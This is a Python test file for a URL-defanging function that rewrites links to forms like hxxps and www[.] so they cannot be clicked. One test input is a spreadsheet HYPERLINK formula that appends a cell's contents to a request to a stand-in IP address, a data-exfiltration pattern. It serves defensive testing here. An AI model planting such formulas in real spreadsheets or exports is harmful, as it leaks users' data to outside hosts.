import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbench.base.text.links import unlinked


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see https://evil.example/a.b now", "see hxxps://evil.example/a.b now"),
        ("HTTP://EVIL.EXAMPLE and www.evil.example", "HxxP://EVIL.EXAMPLE and www[.]evil.example"),
        ('=HYPERLINK("http://198.51.100.9/?"&A1)', '=HYPERLINK("hxxp://198.51.100.9/?"&A1)'),
        ("Notes: v1.2 of the report.", "Notes: v1.2 of the report."),
    ],
)
def test_urls_in_text_become_no_links_and_the_rest_stays(text: str, shown: str) -> None:
    assert unlinked(text) == shown


@given(st.text())
def test_text_once_unlinked_stays_so(text: str) -> None:
    assert unlinked(unlinked(text)) == unlinked(text)
